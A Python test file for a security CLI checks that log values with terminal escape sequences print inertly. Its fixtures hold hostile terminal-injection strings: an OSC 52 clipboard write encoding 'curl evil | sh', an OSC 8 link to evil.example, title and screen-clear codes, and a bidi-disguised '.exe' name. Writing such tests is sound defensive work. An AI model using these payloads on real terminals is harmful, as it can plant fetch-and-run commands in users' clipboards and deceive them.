"""Log values printed by the CLI are shown, never interpreted by the terminal: OSC 8 (hyperlink),
OSC 0 (window title), OSC 52 (clipboard), CSI, carriage returns, bidi overrides and C1 controls
come out as visible escapes in `mantissa alerts list/show`; detect and query have their own tests
(tests/playbooks/test_detect_terminal.py, tests/engines/test_cli_terminal.py)."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from tests.helpers import area_app
from tests.ops.conftest import make_alert
from workbench.alerts import get_store
from workbench.cli.alerts import register
from workbench.cli.terminal import safe, safe_frame
from workbench.config import load_settings

OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
OSC0 = "\x1b]0;pwned\x07"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
HOSTILE = f"alice{OSC8}{OSC0}{OSC52}\x1b[2J\rroot\u202egnp.exe\x9b31m\u200b"
RAW = ["\x1b", "\x07", "\x9b", "\u202e", "\u200b", "\r"]


def assert_inert(text: str) -> None:
    assert not any(ch in text for ch in RAW), repr(text)


def test_safe_escapes_visibly_and_keeps_ordinary_text() -> None:
    assert safe("\x1b]0;pwned\x07") == "\\x1b]0;pwned\\x07"
    assert safe("a\tb\nc\rd") == "a\\x09b\\x0ac\\x0dd"
    assert safe("a\tb\nc", multiline=True) == "a\tb\nc"
    assert safe("r\u202eexe\u2066\x9b") == "r\\u202eexe\\u2066\\x9b"
    assert safe("Zoë 日本 arn:aws:iam::111122223333:user/a+b=c,d@e") == "Zoë 日本 arn:aws:iam::111122223333:user/a+b=c,d@e"
    assert_inert(safe(HOSTILE))


def test_safe_frame_escapes_text_cells_and_names_only() -> None:
    frame = pd.DataFrame({"user\x1b[1m": [HOSTILE, None], "n": [1, 2], "tags": [["\x1b]0;x\x07"], []]})
    out = safe_frame(frame)
    assert_inert(out.to_string(index=False))
    assert_inert(out.to_csv(index=False))
    assert list(out["n"]) == [1, 2] and pd.isna(out.iloc[1, 0])
    assert frame.iloc[0, 0] == HOSTILE  # the caller's frame is left as it was


@pytest.fixture()
def hostile_store(workspace: Path) -> None:
    with get_store(load_settings(workspace, environ={})) as store:
        store.upsert_alert(make_alert("a-hostile-1", title=f"Console login by {HOSTILE}",
                                      group_keys={"principal": HOSTILE}, fields={"userName": HOSTILE},
                                      tags=[f"t{OSC0}"]), ["e1"])
        store.add_note("a-hostile-1", f"pasted {OSC52}", actor=f"ana{OSC0}")


def test_alerts_list_and_show_print_log_values_inert(hostile_store: None) -> None:
    app = area_app(register)
    for args in (["alerts", "list"], ["alerts", "show", "a-hostile-1"]):
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 0, result.output
        assert_inert(result.output)
        assert "\\x1b]8;;https://evil.example/" in result.output or args[1] == "list"
    shown = CliRunner().invoke(app, ["alerts", "show", "a-hostile-1"]).output
    assert "userName: alice\\x1b]8;;https://evil.example/" in shown and "\\x1b]52;c;" in shown
